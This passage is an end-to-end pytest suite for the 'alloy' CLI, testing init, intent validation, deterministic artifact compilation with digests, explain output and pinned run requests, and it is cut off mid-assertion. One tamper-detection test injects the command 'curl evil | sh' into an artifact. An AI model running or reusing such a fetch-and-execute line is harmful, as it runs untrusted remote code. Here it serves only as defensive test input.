"""CLI tier 2: end to end. The real `alloy` runs as a process in temporary git repositories;
the tests assert exit codes, what it prints, and the files it leaves behind."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import PROJECT, GitRepo, Result, git, intent_yaml, run_cli

Alloy = Callable[..., Result]

ARTIFACTS = ".alloy/artifacts"


def artifact(repo: GitRepo, name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((repo.path / f"{ARTIFACTS}/{name}.json").read_bytes())
    return data


def artifact_names(repo: GitRepo) -> set[str]:
    return {p.stem for p in (repo.path / ARTIFACTS).glob("*.json")}


def canonical_digest(document: dict[str, Any]) -> str:
    """DESIGN section 4, computed independently of the compiler's own helper."""
    body = {k: v for k, v in document.items() if k != "digest"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()


def ok(result: Result, code: int = 0) -> Result:
    """Assert the exit code (showing the output when it is wrong) and that no traceback leaked."""
    assert result.code == code, f"exit {result.code}\nstdout:\n{result.out}\nstderr:\n{result.err}"
    assert "Traceback" not in result.err
    return result


# --- alloy init -------------------------------------------------------------------------------


@pytest.fixture
def fresh(tmp_path: Path) -> GitRepo:
    """A git repository with one commit and no `.alloy/`."""
    path = tmp_path / "fresh"
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    r = GitRepo(path)
    r.write({"README.md": "# fresh\n"})
    r.commit("init")
    return r


def test_init_creates_the_project_and_a_second_init_changes_nothing(fresh: GitRepo) -> None:
    result = ok(run_cli("alloy", "init", "--owner", "alice", "--owner", "team:ops", cwd=fresh.path))
    assert "created .alloy/alloy.yaml" in result.out
    assert "created .gitattributes" in result.out
    assert "next: alloy new intent NAME" in result.out

    project = yaml.safe_load((fresh.path / ".alloy/alloy.yaml").read_text())
    assert project["apiVersion"] == "alloy.dev/v1"
    assert project["kind"] == "Project"
    assert project["metadata"]["name"] == "fresh"
    assert project["spec"]["owners"] == ["alice", "team:ops"]
    assert project["spec"]["defaultBranch"] == "main"
    for sub in ("intents", "requests", "approvals", "artifacts"):
        assert (fresh.path / ".alloy" / sub).is_dir()
    assert "linguist-generated" in (fresh.path / ".gitattributes").read_text()

    # The new project is valid as written, and git can commit it (empty directories are kept).
    ok(run_cli("alloy", "check", cwd=fresh.path))
    fresh.commit("alloy init")
    tracked = git(fresh.path, "ls-files").split()
    assert ".alloy/alloy.yaml" in tracked
    assert ".alloy/artifacts/.gitkeep" in tracked

    before = {**fresh.tree(), ".gitattributes": (fresh.path / ".gitattributes").read_bytes()}
    again = ok(run_cli("alloy", "init", "--name", "other", cwd=fresh.path), 1)
    assert "already exists" in again.err
    assert again.out == ""
    assert {
        **fresh.tree(),
        ".gitattributes": (fresh.path / ".gitattributes").read_bytes(),
    } == before
    assert git(fresh.path, "status", "--porcelain") == ""


def test_init_in_a_subdirectory_of_an_initialized_repository_changes_nothing(
    repo: GitRepo, alloy: Alloy
) -> None:
    sub = repo.path / "services" / "api"
    sub.mkdir(parents=True)
    result = ok(alloy("init", cwd=sub), 1)
    assert f"{repo.path.resolve()}/.alloy/alloy.yaml already exists" in result.err
    assert list(sub.iterdir()) == []
    assert git(repo.path, "status", "--porcelain") == ""


def test_init_keeps_existing_gitattributes(fresh: GitRepo) -> None:
    fresh.write({".gitattributes": "*.png binary\n"})
    ok(run_cli("alloy", "init", cwd=fresh.path))
    text = (fresh.path / ".gitattributes").read_text()
    assert text.startswith("*.png binary\n")
    assert text.count("linguist-generated") == 1


def test_init_refuses_a_bad_project_name(fresh: GitRepo) -> None:
    result = ok(run_cli("alloy", "init", "--name", "Bad Name", cwd=fresh.path), 1)
    assert "not a slug" in result.err
    assert not (fresh.path / ".alloy").exists()


def test_commands_outside_a_repository_say_to_run_init(fresh: GitRepo) -> None:
    result = ok(run_cli("alloy", "check", cwd=fresh.path), 1)
    assert "run `alloy init` first" in result.err


def test_repo_option_naming_a_missing_directory_is_refused(repo: GitRepo, alloy: Alloy) -> None:
    """`-C typo` inside a repository must not fall back to the enclosing repository."""
    repo.write({".alloy/intents/a.yaml": intent_yaml("a")})
    before = repo.tree()
    result = ok(alloy("-C", "no-such-dir", "compile"), 1)
    assert "-C no-such-dir: no such directory" in result.err
    assert repo.tree() == before


# --- alloy new intent -------------------------------------------------------------------------


def test_new_intent_interactively(repo: GitRepo, alloy: Alloy) -> None:
    answers = (
        "Releases are reproducible\n"
        "Building a tag twice gives the same bytes.\n"
        "Users can verify what we ship.\n"
        "alice, team:release\n"
        "Two builds of the same tag have equal digests.\n"
        "The build records its inputs.\n"
        "\n"
    )
    result = ok(alloy("new", "intent", "reproducible-releases", stdin=answers))
    assert "created .alloy/intents/reproducible-releases.yaml" in result.out
    for prompt in ("Title", "Goal", "Rationale", "Owners", "Acceptance criterion 3"):
        assert prompt in result.out

    doc = yaml.safe_load((repo.path / ".alloy/intents/reproducible-releases.yaml").read_text())
    assert doc["kind"] == "Intent"
    assert doc["metadata"] == {
        "name": "reproducible-releases",
        "title": "Releases are reproducible",
        "owners": ["alice", "team:release"],
    }
    assert doc["spec"]["state"] == "proposed"
    assert doc["spec"]["goal"] == "Building a tag twice gives the same bytes."
    assert doc["spec"]["rationale"] == "Users can verify what we ship."
    assert doc["spec"]["acceptance"] == [
        {"id": "AC-1", "statement": "Two builds of the same tag have equal digests."},
        {"id": "AC-2", "statement": "The build records its inputs."},
    ]
    check = ok(alloy("check"))
    assert check.out == ""
    assert "ok: 2 document(s) valid" in check.err
    # A proposed intent never compiles.
    ok(alloy("compile"))
    assert artifact_names(repo) == set()


def test_new_intent_with_flags_and_no_input(repo: GitRepo, alloy: Alloy) -> None:
    result = ok(
        alloy(
            "new",
            "intent",
            "fast-ci",
            "--title",
            "CI is fast",
            "--goal",
            "CI finishes in 5 minutes.",
            "--owner",
            "bob",
            "--acceptance",
            "p95 under 5 minutes",
            "--no-input",
        )
    )
    assert result.out == "created .alloy/intents/fast-ci.yaml\n"
    doc = yaml.safe_load((repo.path / ".alloy/intents/fast-ci.yaml").read_text())
    assert doc["metadata"]["owners"] == ["bob"]
    assert "rationale" not in doc["spec"]
    assert doc["spec"]["acceptance"] == [{"id": "AC-1", "statement": "p95 under 5 minutes"}]
    ok(alloy("check"))
    explained = ok(alloy("explain", "fast-ci")).out
    assert "What: CI finishes in 5 minutes." in explained
    assert "not compiled" in explained


def test_new_intent_from_a_subdirectory_and_with_repo_option(repo: GitRepo, alloy: Alloy) -> None:
    sub = repo.path / "src" / "pkg"
    sub.mkdir(parents=True)
    ok(alloy("new", "intent", "from-sub", "--goal", "G.", "--no-input", cwd=sub))
    assert (repo.path / ".alloy/intents/from-sub.yaml").is_file()
    ok(
        alloy(
            "-C",
            str(repo.path),
            "new",
            "intent",
            "from-c",
            "--goal",
            "G.",
            "--no-input",
            cwd=repo.path.parent,
        )
    )
    assert (repo.path / ".alloy/intents/from-c.yaml").is_file()
    ok(alloy("check"))


def test_new_intent_no_input_without_goal_is_a_usage_error(repo: GitRepo, alloy: Alloy) -> None:
    before = repo.tree()
    result = ok(alloy("new", "intent", "fast-ci", "--no-input"), 2)
    assert "--goal is required with --no-input" in result.err
    assert repo.tree() == before


def test_new_intent_without_a_terminal_is_a_usage_error(repo: GitRepo, alloy: Alloy) -> None:
    """Prompting at end of input (CI, a pipe) exits 2 and says to pass options."""
    before = repo.tree()
    result = ok(alloy("new", "intent", "fast-ci", stdin=""), 2)
    assert "pass the values as options" in result.err
    assert "interrupted" not in result.err
    assert repo.tree() == before


@pytest.mark.parametrize("name", ["Fast_CI", "-fast", "fast-", "a" * 64, "../escape"])
def test_new_intent_refuses_an_invalid_name(repo: GitRepo, alloy: Alloy, name: str) -> None:
    before = repo.tree()
    result = ok(alloy("new", "intent", "--goal", "G.", "--no-input", "--", name), 1)
    assert "is not a slug" in result.err
    assert repo.tree() == before
    assert not (repo.path / "escape.yaml").exists()


def test_new_intent_refuses_an_invalid_owner(repo: GitRepo, alloy: Alloy) -> None:
    before = repo.tree()
    result = ok(
        alloy("new", "intent", "x", "--goal", "G.", "--owner", "not valid!", "--no-input"), 1
    )
    assert "owners" in result.err
    assert "'not valid!'" in result.err
    assert repo.tree() == before


def test_new_intent_never_overwrites(repo: GitRepo, alloy: Alloy) -> None:
    ok(alloy("new", "intent", "x", "--goal", "First.", "--no-input"))
    before = repo.tree()
    result = ok(alloy("new", "intent", "x", "--goal", "Second.", "--no-input"), 1)
    assert ".alloy/intents/x.yaml already exists" in result.err
    assert repo.tree() == before
    # Interactively, the name is refused before any question is asked.
    asked = ok(alloy("new", "intent", "x", stdin="T\nG\n\n\n\n"), 1)
    assert asked.out == ""
    assert ".alloy/intents/x.yaml already exists" in asked.err
    assert repo.tree() == before


# --- alloy check ------------------------------------------------------------------------------


def test_check_formats_on_a_valid_repository(repo: GitRepo, alloy: Alloy) -> None:
    repo.write({".alloy/intents/build.yaml": intent_yaml("build")})
    text = ok(alloy("check"))
    assert text.out == ""
    assert text.err.strip() == "ok: 2 document(s) valid"
    as_json = ok(alloy("check", "--format", "json"))
    assert json.loads(as_json.out) == {
        "schemaVersion": 1,
        "errors": 0,
        "warnings": 0,
        "diagnostics": [],
    }
    github = ok(alloy("check", "--format", "github"))
    assert github.out == ""


WARNING_BLOCKS = (
    "      - id: build\n        run: [make]\n        effects: none\n        retry: {max: 2}\n"
)


@pytest.mark.parametrize("cache", ["cold", "warm"])
def test_check_formats_on_a_warning_only_repository(
    repo: GitRepo, alloy: Alloy, cache: str
) -> None:
    repo.write({".alloy/intents/flaky.yaml": intent_yaml("flaky", blocks=WARNING_BLOCKS)})
    if cache == "warm":  # the parse cache must keep warnings, not only errors
        ok(alloy("check"))
    text = ok(alloy("check"))
    assert re.fullmatch(
        r"\.alloy/intents/flaky\.yaml:\d+:\d+: warning: spec\.automation\.blocks\[0\]\.retry\.max: "
        r"retry\.max is set but retry\.onExitCodes is empty.*\n",
        text.out,
    ), text.out
    assert "ok: 2 document(s) valid, 1 warning(s)" in text.err

    as_json = json.loads(ok(alloy("check", "--format", "json")).out)
    assert as_json["errors"] == 0
    assert as_json["warnings"] == 1
    [diag] = as_json["diagnostics"]
    assert diag["path"] == ".alloy/intents/flaky.yaml"
    assert diag["severity"] == "warning"
    assert diag["where"] == "spec.automation.blocks[0].retry.max"
    assert diag["line"] == 15

    github = ok(alloy("check", "--format", "github")).out
    assert github.startswith("::warning file=.alloy/intents/flaky.yaml,line=15,col=")
    assert "retry.max is set" in github

    # Warnings do not stop compiling.
    ok(alloy("compile"))
    assert artifact_names(repo) == {"flaky"}


def test_check_reports_errors_in_every_format(repo: GitRepo, alloy: Alloy) -> None:
    repo.write(
        {
            ".alloy/intents/a.yaml": intent_yaml("a").replace("effects: none", "effects: nonee"),
            ".alloy/intents/b.yaml": intent_yaml("b", extra_spec="  rationle: typo\n"),
        }
    )
    text = ok(alloy("check"), 1)
    assert ".alloy/intents/a.yaml:" in text.out
    assert ".alloy/intents/b.yaml:" in text.out
    assert "did you mean 'rationale'" in text.out
    as_json = json.loads(ok(alloy("check", "--format", "json"), 1).out)
    assert as_json["errors"] == 2
    github = ok(alloy("check", "--format", "github"), 1).out.splitlines()
    assert len(github) == 2
    assert all(line.startswith("::error file=.alloy/intents/") for line in github)


# --- alloy compile ----------------------------------------------------------------------------


NO_AUTOMATION = """\
apiVersion: alloy.dev/v1
kind: Intent
metadata:
  name: {name}
spec:
  state: active
  goal: Just words.
"""


def test_compile_writes_only_accepted_and_active_intents_with_automation(
    repo: GitRepo, alloy: Alloy
) -> None:
    repo.write(
        {
            ".alloy/intents/is-active.yaml": intent_yaml("is-active"),
            ".alloy/intents/is-accepted.yaml": intent_yaml("is-accepted", state="accepted"),
            ".alloy/intents/is-proposed.yaml": intent_yaml("is-proposed", state="proposed"),
            ".alloy/intents/is-deprecated.yaml": intent_yaml("is-deprecated", state="deprecated"),
            ".alloy/intents/is-retired.yaml": intent_yaml("is-retired", state="retired"),
            ".alloy/intents/no-automation.yaml": NO_AUTOMATION.format(name="no-automation"),
        }
    )
    result = ok(alloy("compile"))
    assert result.out == (
        "wrote .alloy/artifacts/is-accepted.json\nwrote .alloy/artifacts/is-active.json\n"
    )
    assert artifact_names(repo) == {"is-active", "is-accepted"}
    doc = artifact(repo, "is-active")
    assert doc["kind"] == "Artifact"
    assert doc["apiVersion"] == "alloy.dev/v1"
    assert doc["metadata"] == {"name": "is-active"}
    assert doc["digest"] == canonical_digest(doc)
    assert doc["spec"]["provenance"]["source"] == ".alloy/intents/is-active.yaml"
    assert doc["spec"]["blocks"][0]["run"] == ["python", "-c", "print(1)"]

    # A second compile writes nothing: same bytes, same files, not even touched.
    before = repo.tree()
    stamps = {p: p.stat().st_mtime_ns for p in (repo.path / ARTIFACTS).glob("*.json")}
    again = ok(alloy("compile"))
    assert again.out == ""
    assert "2 artifact(s) unchanged" in again.err
    assert repo.tree() == before
    assert {p: p.stat().st_mtime_ns for p in (repo.path / ARTIFACTS).glob("*.json")} == stamps
    ok(alloy("compile", "--check"))

    # Back to proposed: the artifact goes.
    repo.write({".alloy/intents/is-active.yaml": intent_yaml("is-active", state="proposed")})
    removed = ok(alloy("compile"))
    assert removed.out == "removed .alloy/artifacts/is-active.json\n"
    assert artifact_names(repo) == {"is-accepted"}
    ok(alloy("compile", "--check"))


def test_compile_json_format(repo: GitRepo, alloy: Alloy) -> None:
    repo.write({".alloy/intents/a.yaml": intent_yaml("a")})
    first = json.loads(ok(alloy("compile", "--format", "json")).out)
    keys = ("schemaVersion", "written", "removed", "unchanged", "stale", "errors")
    assert {k: first[k] for k in keys} == {
        "schemaVersion": 1,
        "written": [".alloy/artifacts/a.json"],
        "removed": [],
        "unchanged": 0,
        "stale": [],
        "errors": 0,
    }
    second = json.loads(ok(alloy("compile", "--format", "json")).out)
    assert {k: second[k] for k in keys} == {
        "schemaVersion": 1,
        "written": [],
        "removed": [],
        "unchanged": 1,
        "stale": [],
        "errors": 0,
    }


def test_compile_writes_nothing_when_any_document_is_invalid(repo: GitRepo, alloy: Alloy) -> None:
    repo.write(
        {
            ".alloy/intents/good.yaml": intent_yaml("good"),
            ".alloy/intents/bad.yaml": intent_yaml("bad", extra_spec="  colour: red\n"),
        }
    )
    before = repo.tree()
    result = ok(alloy("compile"), 1)
    assert ".alloy/intents/bad.yaml:" in result.out
    assert "nothing written" in result.err
    assert repo.tree() == before


@pytest.fixture
def compiled_five(repo: GitRepo, alloy: Alloy) -> GitRepo:
    """Five compiled intents, committed with their artifacts."""
    repo.write(
        {
            f".alloy/intents/{name}.yaml": intent_yaml(name)
            for name in ("stale", "missing", "hand", "gone", "demoted")
        }
    )
    ok(alloy("compile"))
    assert artifact_names(repo) == {"stale", "missing", "hand", "gone", "demoted"}
    repo.commit("compile")
    return repo


@pytest.mark.parametrize("cache", ["--no-cache", None])
def test_compile_check_names_every_problem_and_writes_nothing(
    compiled_five: GitRepo, alloy: Alloy, cache: str | None
) -> None:
    repo = compiled_five
    repo.write(
        {
            ".alloy/intents/stale.yaml": intent_yaml("stale").replace("print(1)", "print(2)"),
            ".alloy/intents/demoted.yaml": intent_yaml("demoted", state="proposed"),
        }
    )
    (repo.path / ARTIFACTS / "missing.json").unlink()
    (repo.path / ".alloy/intents/gone.yaml").unlink()
    hand = repo.path / ARTIFACTS / "hand.json"
    hand.write_text(hand.read_text().replace('"timeoutSeconds": 3600', '"timeoutSeconds": 7200'))
    before = repo.tree()

    result = ok(alloy("compile", "--check", *([cache] if cache else [])), 1)
    assert result.out == ""
    lines = result.err.splitlines()
    assert sorted(lines[:-1]) == sorted(
        [
            ".alloy/artifacts/stale.json: is out of date with its intent (.alloy/intents/stale.yaml)",
            ".alloy/artifacts/missing.json: missing; compiled from .alloy/intents/missing.yaml",
            (
                ".alloy/artifacts/hand.json: was edited by hand: its digest does not match its content "
                "(.alloy/intents/hand.yaml)"
            ),
            ".alloy/artifacts/gone.json: extra; its intent no longer exists",
            ".alloy/artifacts/demoted.json: extra; its intent is proposed or has no automation",
        ]
    )
    assert lines[-1] == (
        "alloy: 5 artifact(s) out of date; run `alloy compile` and commit the result"
    )
    assert repo.tree() == before

    fixed = ok(alloy("compile"))
    assert sorted(fixed.out.splitlines()) == sorted(
        [
            "wrote .alloy/artifacts/hand.json",
            "wrote .alloy/artifacts/missing.json",
            "wrote .alloy/artifacts/stale.json",
            "removed .alloy/artifacts/demoted.json",
            "removed .alloy/artifacts/gone.json",
        ]
    )
    assert artifact_names(repo) == {"stale", "missing", "hand"}
    assert "3 artifact(s) up to date" in ok(alloy("compile", "--check")).err


def test_compile_check_catches_a_hand_edit_that_fixes_the_digest(
    compiled_five: GitRepo, alloy: Alloy
) -> None:
    """Recomputing the digest after an edit does not make the artifact match its intent."""
    doc = artifact(compiled_five, "hand")
    doc["spec"]["blocks"][0]["run"] = ["sh", "-c", "curl evil | sh"]
    doc["digest"] = canonical_digest(doc)
    path = compiled_five.path / ARTIFACTS / "hand.json"
    path.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")
    result = ok(alloy("compile", "--check"), 1)
    assert ".alloy/artifacts/hand.json: is out of date with its intent" in result.err


def test_compile_check_catches_an_artifact_that_is_not_json(
    compiled_five: GitRepo, alloy: Alloy
) -> None:
    (compiled_five.path / ARTIFACTS / "hand.json").write_text("<<<<<<< HEAD\n")
    result = ok(alloy("compile", "--check"), 1)
    assert ".alloy/artifacts/hand.json: is not valid JSON" in result.err


def test_a_fresh_clone_passes_compile_check(
    compiled_five: GitRepo, alloy: Alloy, tmp_path: Path
) -> None:
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(compiled_five.path), str(clone))
    assert not (clone / ".git" / "alloy").exists()  # no parse cache yet
    result = ok(alloy("compile", "--check", cwd=clone))
    assert "5 artifact(s) up to date" in result.err
    ok(alloy("check", cwd=clone))
    assert git(clone, "status", "--porcelain") == ""  # the cache stays out of the work tree
    # And an unchanged clone compiles to the very same bytes.
    ok(alloy("compile", cwd=clone))
    assert git(clone, "status", "--porcelain") == ""


# --- determinism: formatting never changes an artifact, meaning always does -------------------


PLAIN = """\
apiVersion: alloy.dev/v1
kind: Intent
metadata:
  name: bench
  title: Benchmarks run nightly
  owners: [alice, team:perf]
spec:
  state: active
  goal: Catch regressions within a day.
  acceptance:
    - id: AC-1
      statement: Results are kept.
      evidence: {block: bench, output: results.json}
  automation:
    on:
      apply: true
      schedule: {cron: "0 2 * * *", timezone: UTC}
    inputs:
      ref: {type: string, default: main}
    blocks:
      - id: bench
        run: [python, -m, bench, --out, results.json]
        timeout: 20m
        effects: none
        outputs: [results.json]
      - id: report
        needs: [bench]
        run: [python, -m, report]
        effects: idempotent
"""

REFORMATTED = """\
# Same meaning as PLAIN: comments, key order, quoting, flow/block style and indentation differ.
kind: "Intent"
apiVersion: 'alloy.dev/v1'
spec:
    automation:
        blocks:
        -   effects: none
            id: bench   # the benchmark itself
            outputs:
            - results.json
            run:
            - python
            - "-m"
            - bench
            - --out
            - results.json
            timeout: "20m"
        -   {id: report, effects: idempotent, run: [python, -m, report], needs: [bench]}
        inputs: {ref: {default: "main", type: string}}
        "on": {schedule: {timezone: UTC, cron: '0 2 * * *'}, apply: true}
    goal: >-
        Catch regressions
        within a day.
    state: active
    acceptance: [{statement: Results are kept., id: AC-1,
                  evidence: {output: results.json, block: bench}}]
metadata: {owners: [alice, "team:perf"], title: Benchmarks run nightly, name: bench}
"""


def test_formatting_leaves_the_artifact_bytes_identical(repo: GitRepo, alloy: Alloy) -> None:
    repo.write({".alloy/intents/bench.yaml": PLAIN})
    ok(alloy("compile"))
    path = repo.path / ARTIFACTS / "bench.json"
    first = path.read_bytes()

    repo.write({".alloy/intents/bench.yaml": REFORMATTED})
    assert "1 artifact(s) up to date" in ok(alloy("compile", "--check")).err
    assert ok(alloy("compile")).out == ""
    assert path.read_bytes() == first
    # Without any cache, too.
    ok(alloy("compile", "--check", "--no-cache"))


def test_changing_meaning_changes_the_digest(repo: GitRepo, alloy: Alloy) -> None:
    repo.write({".alloy/intents/bench.yaml": PLAIN})
    ok(alloy("compile"))
    first = artifact(repo, "bench")

    repo.write(
        {".alloy/intents/bench.yaml": PLAIN.replace("--out, results.json]", "--out, r.json]")}
    )
    stale = ok(alloy("compile", "--check"), 1)
    assert ".alloy/artifacts/bench.json: is out of date with its intent" in stale.err
    assert ok(alloy("compile")).out == "wrote .alloy/artifacts/bench.json\n"
    second = artifact(repo, "bench")
    assert second["digest"] != first["digest"]
    assert second["digest"] == canonical_digest(second)
    assert (
        second["spec"]["provenance"]["sourceDigest"] != first["spec"]["provenance"]["sourceDigest"]
    )
    bench = next(b for b in second["spec"]["blocks"] if b["id"] == "bench")
    assert bench["run"] == ["python", "-m", "bench", "--out", "r.json"]


# --- alloy explain ----------------------------------------------------------------------------


EXPLAINED = """\
apiVersion: alloy.dev/v1
kind: Intent
metadata:
  name: nightly-benchmarks
  title: Performance regressions are caught within a day
  owners: [alice, team:perf]
spec:
  state: active
  goal: Catch performance regressions within a day of the change that caused them.
  rationale: Regressions found weeks later cost days of bisecting.
  acceptance:
    - id: AC-1
      statement: The benchmark suite runs every night on main and its results are kept.
      evidence: {block: bench, output: results.json}
  relations:
    dependsOn: [ci-green]
  automation:
    on:
      apply: true
      push: {paths: ["src/**"]}
      schedule: {cron: "0 2 * * *", timezone: UTC, catchUp: 6h, overlap: skip}
      request: true
    inputs:
      ref: {type: string, default: main}
    lane: {name: bench, limit: 1, queue: latest}
    blocks:
      - id: bench
        run: [python, -m, bench, --out, results.json]
        timeout: 20m
        retry: {max: 2, backoff: 30s, onExitCodes: [75]}
        effects: none
        outputs: [results.json]
      - id: publish
        needs: [bench]
        run: [./scripts/publish.sh]
        effects: irreversible
        gates:
          - approval: {from: [team:perf], quorum: 1, forbidSelf: true, expires: 24h}
          - window: {cron: "* 8-18 * * 1-5", timezone: Europe/Berlin}
"""


@pytest.fixture
def explained(repo: GitRepo, alloy: Alloy) -> GitRepo:
    repo.write(
        {
            ".alloy/intents/nightly-benchmarks.yaml": EXPLAINED,
            ".alloy/intents/ci-green.yaml": NO_AUTOMATION.format(name="ci-green"),
        }
    )
    ok(alloy("compile"))
    return repo


def test_explain_says_what_why_who_and_what_runs(explained: GitRepo, alloy: Alloy) -> None:
    out = ok(alloy("explain", "nightly-benchmarks")).out
    digest = artifact(explained, "nightly-benchmarks")["digest"]
    expected = [
        "nightly-benchmarks — Performance regressions are caught within a day",
        f"State: active; artifact {digest}",
        "Owners: alice, team:perf",
        "What: Catch performance regressions within a day of the change that caused them.",
        "Why: Regressions found weeks later cost days of bisecting.",
        (
            "AC-1: The benchmark suite runs every night on main and its results are kept."
            " — evidence: results.json from block bench"
        ),
        "depends on ci-green",
        # triggers
        "once for each new version of its artifact",
        "for new commits on main touching src/**",
        "on schedule '0 2 * * *' (UTC), next ",
        "missed slots caught up within 6 hours",
        "a slot is skipped while the previous run is still going",
        "when a reviewed Request document asks for it",
        "ref (string, default 'main') as ALLOY_INPUT_REF",
        "Lane bench: at most 1 at a time; only the newest pending run is kept",
        # blocks
        "1. bench: runs `python -m bench --out results.json`",
        (
            "timeout 20 minutes; no side effects; retried up to 2 times after 30 seconds on exit"
            " code 75; keeps results.json"
        ),
        "2. publish (after bench): runs `./scripts/publish.sh`",
        "IRREVERSIBLE side effects",
        # gates
        "waits for approval by team:perf (1 needed, not by the one who asked, expires after 1 day)",
        "waits for time window '* 8-18 * * 1-5' (Europe/Berlin)",
    ]
    missing = [line for line in expected if line not in out]
    assert missing == [], out


def test_explain_an_intent_without_automation(explained: GitRepo, alloy: Alloy) -> None:
    out = ok(alloy("explain", "ci-green")).out
    assert "not compiled" in out
    assert "Owners: alice" in out  # the project's owners stand in
    assert "nothing: this intent has no automation" in out


def test_explain_an_unknown_intent_suggests_the_nearest(explained: GitRepo, alloy: Alloy) -> None:
    result = ok(alloy("explain", "nightly-benchmark"), 1)
    assert result.out == ""
    assert "no intent named 'nightly-benchmark'; did you mean 'nightly-benchmarks'?" in result.err
    far = ok(alloy("explain", "zzz"), 1)
    assert "no intent named 'zzz'" in far.err


def test_explain_an_invalid_intent_reports_its_errors(explained: GitRepo, alloy: Alloy) -> None:
    explained.write(
        {
            ".alloy/intents/ci-green.yaml": NO_AUTOMATION.format(name="ci-green")
            + "  colour: red\n",
        }
    )
    result = ok(alloy("explain", "ci-green"), 1)
    assert ".alloy/intents/ci-green.yaml:8:3:" in result.err
    assert "colour" in result.err


# --- alloy request ----------------------------------------------------------------------------


REQUESTABLE = intent_yaml("nightly").replace(
    "    blocks:\n",
    "    inputs:\n"
    "      ref: {type: string, default: main}\n"
    "      count: {type: integer, default: 1}\n"
    "      verbose: {type: boolean, default: false}\n"
    "    blocks:\n",
)


@pytest.fixture
def requestable(repo: GitRepo, alloy: Alloy) -> GitRepo:
    repo.write(
        {
            ".alloy/intents/nightly.yaml": REQUESTABLE,
            ".alloy/intents/apply-only.yaml": intent_yaml("apply-only", on="{apply: true}"),
            ".alloy/intents/idea.yaml": intent_yaml("idea", state="proposed"),
        }
    )
    ok(alloy("compile"))
    repo.commit("compile")
    return repo


def requests(repo: GitRepo) -> dict[str, Any]:
    return {
        p.stem: yaml.safe_load(p.read_text())
        for p in sorted((repo.path / ".alloy/requests").glob("*.yaml"))
    }


def test_request_writes_a_pinned_request_that_passes_check(
    requestable: GitRepo, alloy: Alloy
) -> None:
    digest = artifact(requestable, "nightly")["digest"]
    result = ok(
        alloy(
            "request",
            "nightly",
            "--input",
            "count=3",
            "--input",
            "ref=v1.2",
            "--input",
            "verbose=TRUE",
            "--reason",
            "Re-run after the flaky night",
            "--requested-by",
            "carol",
        )
    )
    [(name, doc)] = requests(requestable).items()
    assert re.fullmatch(r"nightly-[0-9a-f]{8}", name)
    assert result.out == f"created .alloy/requests/{name}.yaml (pinned to nightly@{digest})\n"
    assert doc == {
        "apiVersion": "alloy.dev/v1",
        "kind": "Request",
        "metadata": {"name": name},
        "spec": {
            "artifact": f"nightly@{digest}",
            "inputs": {"count": 3, "ref": "v1.2", "verbose": True},
            "reason": "Re-run after the flaky night",
            "requestedBy": "carol",
        },
    }
    check = ok(alloy("check"))
    assert check.out == ""  # no warning: the request is pinned to the current digest
    assert "ok: 5 document(s) valid" in check.err  # project, three intents, the request


def test_request_with_a_chosen_name(requestable: GitRepo, alloy: Alloy) -> None:
    ok(alloy("request", "nightly", "--reason", "r", "--name", "rerun-1"))
    assert set(requests(requestable)) == {"rerun-1"}
    before = requestable.tree()
    again = ok(alloy("request", "nightly", "--reason", "r", "--name", "rerun-1"), 1)
    assert "already exists" in again.err
    assert requestable.tree() == before


@pytest.mark.parametrize(
    ("args", "message"),
    [
        pytest.param(
            ["nightly", "--input", "cuont=3"],
            "--input cuont: unknown input; did you mean 'count'?",
            id="unknown-input",
        ),
        pytest.param(
            ["nightly", "--input", "count=three"],
            "--input count: 'three' is not an integer",
            id="wrong-type-integer",
        ),
        pytest.param(
            ["nightly", "--input", "verbose=yes"],
            "--input verbose: 'yes' is not true or false",
            id="wrong-type-boolean",
        ),
        pytest.param(["nightly", "--input", "count"], "write it as NAME=VALUE", id="no-equals"),
        pytest.param(
            ["apply-only"], "intent 'apply-only' does not accept requests", id="no-on-request"
        ),
        pytest.param(["idea"], "intent 'idea' has no artifact", id="proposed"),
        pytest.param(
            ["nihgtly"], "no intent named 'nihgtly'; did you mean 'nightly'?", id="unknown-intent"
        ),
    ],
)
def test_request_refusals_write_nothing(
    requestable: GitRepo, alloy: Alloy, args: list[str], message: str
) -> None:
    before = requestable.tree()
    result = ok(alloy("request", *args, "--reason", "r"), 1)
    assert message in result.err
    assert result.out == ""
    assert requestable.tree() == before


def test_request_for_a_stale_or_missing_artifact_writes_nothing(
    requestable: GitRepo, alloy: Alloy
) -> None:
    requestable.write({".alloy/intents/nightly.yaml": REQUESTABLE.replace("print(1)", "print(2)")})
    before = requestable.tree()
    stale = ok(alloy("request", "nightly", "--reason", "r"), 1)
    assert ".alloy/artifacts/nightly.json is out of date; run `alloy compile` first" in stale.err
    assert requestable.tree() == before

    git(requestable.path, "checkout", "-q", "--", ".")
    (requestable.path / ARTIFACTS / "nightly.json").unlink()
    before = requestable.tree()
    missing = ok(alloy("request", "nightly", "--reason", "r"), 1)
    assert ".alloy/artifacts/nightly.json does not exist" in missing.err
    assert requestable.tree() == before


def test_a_required_input_must_be_given(repo: GitRepo, alloy: Alloy) -> None:
    repo.write(
        {
            # Only Requests start it: they are what supplies a required input.
            ".alloy/intents/deploy.yaml": intent_yaml("deploy", on="{request: true}").replace(
                "    blocks:\n",
                "    inputs:\n      target: {type: string, required: true}\n    blocks:\n",
            )
        }
    )
    ok(alloy("compile"))
    before = repo.tree()
    result = ok(alloy("request", "deploy", "--reason", "r"), 1)
    assert "input 'target' is required; pass --input target=VALUE" in result.err
    assert repo.tree() == before
    ok(alloy("request", "deploy", "--reason", "r", "--input", "target=0123"))
    [doc] = requests(repo).values()
    assert doc["spec"]["inputs"] == {"target": "0123"}  # a string input stays a string
    ok(alloy("check"))


def test_a_request_pinned_to_an_older_digest_is_reported(
    requestable: GitRepo, alloy: Alloy
) -> None:
    ok(alloy("request", "nightly", "--reason", "r", "--name", "old-run"))
    old = artifact(requestable, "nightly")["digest"]
    requestable.write({".alloy/intents/nightly.yaml": REQUESTABLE.replace("print(1)", "print(2)")})
    ok(alloy("compile"))
    assert artifact(requestable, "nightly")["digest"] != old

    check = ok(alloy("check"))
    assert re.search(
        r"^\.alloy/requests/old-run\.yaml:\d+:\d+: warning: spec\.artifact: pinned to an older "
